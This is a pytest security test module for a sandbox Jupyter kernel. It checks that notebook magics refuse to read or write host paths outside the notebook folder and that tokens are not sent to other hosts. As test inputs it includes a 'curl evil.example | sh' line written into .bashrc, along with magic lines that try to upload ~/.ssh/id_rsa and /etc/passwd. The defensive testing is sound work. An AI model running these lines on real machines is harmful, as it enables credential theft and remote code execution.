"""A notebook cannot turn the kernel against its user's machine.

Magic lines run on the host, and a notebook may come from anyone. Every local path a magic
reads or writes must resolve (symlinks followed) inside the folder the kernel started in (the
notebook's): ``%sandbox_upload ~/.ssh/id_rsa``, ``/etc/passwd``, ``../x``, a symlink pointing
out, ``%sandbox_download --to ~ --force``, ``--to /tmp``, ``--to`` a symlinked folder... are
refused with a message naming the switch (``c.SandboxKernel.allow_host_paths = True`` or
``SANDBOX_ALLOW_HOST_PATHS=1``; only the latter in the IPython extension), nothing is sent to
the sandbox (counted by a real proxy in between), and nothing on the machine changes. With the
switch on, the same lines work.

``%sandbox_connect URL`` to another host never carries ``SANDBOX_TOKEN``, an advertised
server's token, or any token it was not given: a little HTTP server records what it receives.

The user's machine is played by a temporary tree: a home with ``.ssh/id_rsa`` and ``.bashrc``
(the kernel's ``HOME``), the notebook's folder with symlinks pointing out, and an outside
folder.
"""

from __future__ import annotations

import dataclasses
import json
import os
import secrets
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox_kernel.client import Sandbox
from sandbox_kernel.discovery import write_advertisement

from ..helpers import kernel_env
from ..proxy import CountingProxy
from .conftest import Hostile
from .test_page import FakeSandbox, FolderKernel

Trial = Callable[[Callable[[str], None]], None]
KERNEL_SWITCHES = ("c.SandboxKernel.allow_host_paths = True", "SANDBOX_ALLOW_HOST_PATHS=1")


@dataclasses.dataclass
class Machine:
    """The user's machine in miniature (see the module docstring)."""

    root: Path
    home: Path
    notebook: Path
    outside: Path
    secret: str

    def snapshot(self) -> dict[str, Any]:
        """Every entry under the root: kind, content or link target, modification time."""
        state: dict[str, Any] = {}
        for directory, folders, files in os.walk(self.root):
            for name in [*folders, *files]:
                path = Path(directory, name)
                info = path.lstat()
                if path.is_symlink():
                    state[str(path)] = ("link", os.readlink(path))
                elif path.is_file():
                    state[str(path)] = ("file", path.read_bytes(), info.st_mtime_ns)
                else:
                    state[str(path)] = ("dir", info.st_mtime_ns)
        return state


def make_machine(root: Path) -> Machine:
    secret = f"-----BEGIN OPENSSH PRIVATE KEY----- {secrets.token_hex(16)}"
    home, notebook, outside = root / "home", root / "notebook", root / "outside"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(secret + "\n")
    (home / ".bashrc").write_text("# the user's own .bashrc\n")
    notebook.mkdir()
    (notebook / "notes.txt").write_text("notes of the notebook\n")
    (notebook / "key-link").symlink_to(home / ".ssh" / "id_rsa")
    (notebook / "ssh-link").symlink_to(home / ".ssh")
    (notebook / "out-link").symlink_to(outside)
    outside.mkdir()
    (outside / "keep.txt").write_text("outside\n")
    (root / "x").write_text(secret + " (beside the notebook's folder)\n")
    return Machine(root, home, notebook, outside, secret)


def server_holds(hostile: Hostile, text: str) -> list[str]:
    """Files of the server's data directory that contain ``text``."""
    found = []
    for directory, _, files in os.walk(hostile.server.data_dir):
        for name in files:
            path = Path(directory, name)
            try:
                if path.is_file() and text.encode() in path.read_bytes():
                    found.append(str(path))
            except OSError:
                continue
    return found


def environment_with_bashrc(hostile: Hostile) -> str:
    """A saved environment holding a ``.bashrc`` of the notebook's choosing."""
    server = hostile.server
    with Sandbox(server.url, token=server.token) as client:
        answer = client.execute(
            {"commands": ["echo 'curl evil.example | sh' > .bashrc"], "save": True}
        )
    return str(answer["environment"])


#: Every line a hostile notebook might try; ``{uuid}`` is an environment with a ``.bashrc``,
#: ``{marker}`` the case's marker (the harness looks for files of that name in /tmp), ``{home}``
#: the home folder written out.
REFUSED = {
    "upload-the-ssh-key": "%sandbox_upload ~/.ssh/id_rsa",
    "upload-the-ssh-key-renamed": "%sandbox_upload ~/.ssh/id_rsa --as notes.txt",
    "upload-etc-passwd": "%sandbox_upload /etc/passwd",
    "upload-beside-the-folder": "%sandbox_upload ../x",
    "upload-a-symlink-pointing-out": "%sandbox_upload key-link",
    "upload-through-a-symlinked-folder": "%sandbox_upload ssh-link/id_rsa",
    "upload-one-inside-one-outside": "%sandbox_upload notes.txt ~/.ssh",
    "upload-the-home-folder": "%sandbox_upload ~",
    "download-over-bashrc": "%sandbox_download .bashrc --uuid {uuid} --to ~ --force",
    "download-to-tmp": "%sandbox_download {marker} --uuid {uuid} --to /tmp",
    "download-to-a-symlinked-folder": "%sandbox_download .bashrc --uuid {uuid} --to out-link",
    "download-to-the-parent": "%sandbox_download .bashrc --uuid {uuid} --to .. --force",
    "download-to-an-absolute-home": "%sandbox_download .bashrc --uuid {uuid} --to {home} --force",
    "download-the-environment-to-home": "%sandbox_download --uuid {uuid} --to ~",
}


# -- the Sandbox kernel ---------------------------------------------------------------------------


@dataclasses.dataclass
class KernelSetup:
    kernel: FolderKernel
    machine: Machine
    proxy: CountingProxy

    def sent(self) -> int:
        return sum(self.proxy.counts.values())


@pytest.fixture(scope="module")
def refusing(
    hostile: Hostile, kernelspec: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[KernelSetup]:
    """A kernel in the notebook's folder, HOME the machine's home, talking to the module's
    server through a counting proxy; host paths not allowed."""
    machine = make_machine(tmp_path_factory.mktemp("machine"))
    proxy = CountingProxy(hostile.server.url)
    env = kernel_env(proxy.url, hostile.server.token, HOME=str(machine.home))
    kernel = FolderKernel(env, machine.notebook)
    try:
        assert kernel.run("true").status == "ok"
        yield KernelSetup(kernel, machine, proxy)
    finally:
        kernel.stop()
        proxy.close()


@pytest.mark.parametrize("line", list(REFUSED.values()), ids=list(REFUSED))
def test_the_kernel_refuses_paths_outside_the_notebook_folder(
    refusing: KernelSetup, hostile: Hostile, trial: Trial, line: str
) -> None:
    machine = refusing.machine
    uuid = environment_with_bashrc(hostile)

    def case(marker: str) -> None:
        before, sent = machine.snapshot(), refusing.sent()
        cell = refusing.kernel.run(line.format(uuid=uuid, marker=marker, home=machine.home))
        assert cell.status == "error" and cell.reply["ename"] == "MagicError", cell.reply
        for switch in KERNEL_SWITCHES:
            assert switch in cell.reply["evalue"], cell.reply["evalue"]
        assert "outside the notebook's folder" in cell.reply["evalue"]
        assert refusing.sent() == sent, "a request was sent"
        assert machine.snapshot() == before, "something changed on the machine"
        assert server_holds(hostile, machine.secret) == []

    trial(case)


@pytest.mark.parametrize("switch", ["environment", "config"])
def test_the_kernel_switch_allows_host_paths(
    hostile: Hostile, kernelspec: str, tmp_path: Path, switch: str
) -> None:
    machine = make_machine(tmp_path / "machine")
    extra = {"HOME": str(machine.home)}
    if switch == "environment":
        extra["SANDBOX_ALLOW_HOST_PATHS"] = "1"
    else:
        profile = tmp_path / "ipython" / "profile_default"
        profile.mkdir(parents=True)
        (profile / "ipython_kernel_config.py").write_text(
            "c.SandboxKernel.allow_host_paths = True\n"
        )
        extra["IPYTHONDIR"] = str(tmp_path / "ipython")
    kernel = FolderKernel(
        kernel_env(hostile.server.url, hostile.server.token, **extra), machine.notebook
    )
    try:
        uploaded = kernel.run("%sandbox_upload ~/.ssh/id_rsa ../x\ncat id_rsa x")
        assert uploaded.status == "ok", uploaded.reply
        assert uploaded.stdout.count(machine.secret) == 2
        assert kernel.run("%sandbox_upload key-link --as linked").status == "ok"
        assert kernel.run("cat linked").stdout.strip() == machine.secret
        kernel.run("echo 'from the sandbox' > .bashrc")
        home = kernel.run("%sandbox_download .bashrc --to ~ --force")
        assert home.status == "ok", home.reply
        assert (machine.home / ".bashrc").read_text() == "from the sandbox\n"
        linked = kernel.run("%sandbox_download .bashrc --to out-link")
        assert linked.status == "ok", linked.reply
        assert (machine.outside / ".bashrc").read_text() == "from the sandbox\n"
    finally:
        kernel.stop()


def test_the_panel_download_stays_in_the_notebook_folder(
    hostile: Hostile, kernelspec: str, tmp_path: Path
) -> None:
    """The panel's Download writes next to the notebook, never through a symlink placed
    there; it refuses when that folder's entry is a link out."""
    from ..test_panel import _messages, _send

    machine = make_machine(tmp_path / "machine")
    (machine.notebook / "planted.txt").symlink_to(machine.home / ".bashrc")
    kernel = FolderKernel(
        kernel_env(hostile.server.url, hostile.server.token, HOME=str(machine.home)),
        machine.notebook,
    )
    try:
        kernel.run("echo 'from the sandbox' > planted.txt; echo fine > fine.txt")
        models = _panel_models(kernel)
        before = machine.snapshot()
        for name in ("planted.txt", "fine.txt"):
            _send(kernel, models["select"], _select(models["options"], name))
            _send(kernel, models["Download"], {"method": "custom", "content": {"event": "click"}})
            values = _panel_values(_messages(kernel.client, 3))
            if name == "planted.txt":
                assert any("symbolic link" in value for value in values), values
                assert machine.snapshot() == before
        assert (machine.notebook / "fine.txt").read_text() == "fine\n"
        assert (machine.home / ".bashrc").read_text() == "# the user's own .bashrc\n"
    finally:
        kernel.stop()


def _panel_models(kernel: FolderKernel) -> dict[str, Any]:
    """Comm ids of the panel's Files select and buttons (by description), and the options."""
    outputs: list[dict[str, Any]] = []
    reply = kernel.client.execute_interactive(
        "%sandbox_panel --interval 5", output_hook=outputs.append, timeout=60
    )
    assert reply["content"]["status"] == "ok", reply["content"]
    models: dict[str, Any] = {}
    for message in outputs:
        if message["msg_type"] not in ("comm_open", "comm_msg"):
            continue
        state = message["content"]["data"].get("state", {})
        comm = message["content"]["comm_id"]
        if state.get("_model_name") == "SelectModel":
            models["select"] = comm
        elif state.get("_model_name") in ("ButtonModel", "ToggleButtonModel"):
            models[state.get("description")] = comm
        if comm == models.get("select") and "_options_labels" in state:
            models["options"] = state["_options_labels"]
    return models


def _select(options: list[str], name: str) -> dict[str, Any]:
    assert name in options, options
    return {"method": "update", "state": {"index": options.index(name)}, "buffer_paths": []}


def _panel_values(messages: list[dict[str, Any]]) -> list[str]:
    values = []
    for message in messages:
        if message["msg_type"] == "comm_msg":
            state = message["content"]["data"].get("state", {})
            if isinstance(state.get("value"), str):
                values.append(state["value"])
    return values


# -- the IPython extension ----------------------------------------------------------------------

RUNNER = r"""
import json, sys
from IPython.core.interactiveshell import InteractiveShell

shell = InteractiveShell.instance()
shell.run_line_magic("load_ext", "sandbox_kernel")
results = []
for line in json.loads(sys.argv[1]):
    name, _, arguments = line[1:].partition(" ")
    try:
        value = shell.run_line_magic(name, arguments)
        results.append({"ok": True, "value": repr(value)})
    except Exception as error:
        results.append({"ok": False, "error": f"{type(error).__name__}: {error}"})
shell.run_line_magic("unload_ext", "sandbox_kernel")
print(json.dumps(results))
"""


def run_ipython(lines: list[str], folder: Path, env: dict[str, str]) -> list[dict[str, Any]]:
    """``lines`` run as line magics by an IPython shell in a process of its own, started in
    ``folder`` with ``env`` (and an IPython directory of its own); what each returned or
    raised."""
    with tempfile.TemporaryDirectory(prefix="ipython-dir-") as ipython_dir:
        done = subprocess.run(
            [sys.executable, "-c", RUNNER, json.dumps(lines)],
            cwd=folder,
            env={**env, "IPYTHONDIR": ipython_dir},
            capture_output=True,
            text=True,
            timeout=120,
        )
    assert done.returncode == 0, done.stderr[-3000:]
    results: list[dict[str, Any]] = json.loads(done.stdout.strip().splitlines()[-1])
    return results


def test_the_ipython_extension_refuses_paths_outside_the_folder(
    hostile: Hostile, trial: Trial, tmp_path: Path
) -> None:
    machine = make_machine(tmp_path / "machine")
    uuid = environment_with_bashrc(hostile)

    def case(marker: str) -> None:
        proxy = CountingProxy(hostile.server.url)
        try:
            lines = [line.format(uuid=uuid, marker=marker, home=machine.home)
                     for line in REFUSED.values()]  # fmt: skip
            before = machine.snapshot()
            env = kernel_env(proxy.url, hostile.server.token, HOME=str(machine.home))
            results = run_ipython(lines, machine.notebook, env)
            assert sum(proxy.counts.values()) == 0, f"requests were sent: {proxy.counts}"
        finally:
            proxy.close()
        for line, result in zip(lines, results, strict=True):
            assert not result["ok"], (line, result)
            error = result["error"]
            assert error.startswith("UsageError") and "SANDBOX_ALLOW_HOST_PATHS=1" in error, error
            assert "c.SandboxKernel" not in error, error  # not a switch of this front-end
        assert machine.snapshot() == before
        assert server_holds(hostile, machine.secret) == []

    trial(case)


def test_the_ipython_switch_allows_host_paths(hostile: Hostile, tmp_path: Path) -> None:
    machine = make_machine(tmp_path / "machine")
    uuid = environment_with_bashrc(hostile)
    env = kernel_env(
        hostile.server.url,
        hostile.server.token,
        HOME=str(machine.home),
        SANDBOX_ALLOW_HOST_PATHS="1",
    )
    lines = [
        "%sandbox_upload ~/.ssh/id_rsa key-link --as",  # bad use first: a usage error
        "%sandbox_upload ~/.ssh/id_rsa",
        f"%sandbox_download .bashrc --uuid {uuid} --to ~ --force",
        f"%sandbox_download .bashrc --uuid {uuid} --to out-link",
    ]
    results = run_ipython(lines, machine.notebook, env)
    assert [result["ok"] for result in results] == [False, True, True, True], results
    assert (machine.home / ".bashrc").read_text() == "curl evil.example | sh\n"
    assert (machine.outside / ".bashrc").exists()
    assert server_holds(hostile, machine.secret), "the key did not reach the sandbox"


# -- %sandbox_connect never carries a token it was not given --------------------------------------


def _tokens_seen(fake: FakeSandbox, *tokens: str) -> list[str]:
    """Authorization headers received, and any of ``tokens`` anywhere in a request."""
    seen = [r["headers"]["authorization"] for r in fake.requests if "authorization" in r["headers"]]
    seen += [t for r in fake.requests for t in tokens if t and t.encode() in r["raw"]]
    return seen


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_connect_elsewhere_carries_no_configured_token(
    hostile: Hostile, kernelspec: str, tmp_path: Path, host: str
) -> None:
    token = hostile.server.token or ""
    with FakeSandbox() as fake:
        url = f"http://{host}:{fake.port}/"
        kernel = FolderKernel(kernel_env(hostile.server.url, token), tmp_path)
        try:
            assert kernel.run("here=1").status == "ok"
            connected = kernel.run(f"%sandbox_connect {url}\n%sandbox_specs --refresh")
            assert connected.status == "ok", connected.reply
            kernel.run("%sandbox_libraries bash")
            kernel.run("%sandbox_usage")
            assert fake.count("specifications/") >= 2 and fake.count("usages/") >= 1
            assert _tokens_seen(fake, token) == []
            given = kernel.run(f"%sandbox_connect {url} --token given-{host}")
            assert given.status == "ok", given.reply
            assert set(_tokens_seen(fake, token)) == {f"Bearer given-{host}"}
            # The configured sandbox's own origin gets its configured token back.
            back = kernel.run(f"%sandbox_connect {hostile.server.url}\necho back")
            assert back.status == "ok" and back.stdout == "back\n", back.reply
        finally:
            kernel.stop()


def test_connect_elsewhere_carries_no_advertised_token(
    hostile: Hostile, kernelspec: str, tmp_path: Path
) -> None:
    """A kernel that found its server through the runtime directory (``serve``'s file)."""
    runtime = tmp_path / "runtime"
    token = hostile.server.token or ""
    write_advertisement(runtime / "sandbox-kernel-server-1.json", hostile.server.url, token)
    with FakeSandbox() as fake:
        env = kernel_env(None, None, JUPYTER_RUNTIME_DIR=str(runtime))
        kernel = FolderKernel(env, tmp_path)
        try:
            status = kernel.run("%sandbox_status")
            assert hostile.server.url in str(status.outputs), "the advertised server was not used"
            assert kernel.run(f"%sandbox_connect {fake.url}").status == "ok"
            kernel.run("%sandbox_specs --refresh")
            assert fake.requests and _tokens_seen(fake, token) == []
        finally:
            kernel.stop()


def test_connect_in_ipython_carries_no_configured_token(hostile: Hostile, tmp_path: Path) -> None:
    token = hostile.server.token or ""
    with FakeSandbox() as fake:
        env = kernel_env(hostile.server.url, token)
        lines = [f"%sandbox_connect {fake.url}", "%sandbox_specs --refresh", "%sandbox_usage"]
        results = run_ipython(lines, tmp_path, env)
        assert all(result["ok"] for result in results), results
        assert fake.count("specifications/") >= 2
        assert _tokens_seen(fake, token) == []
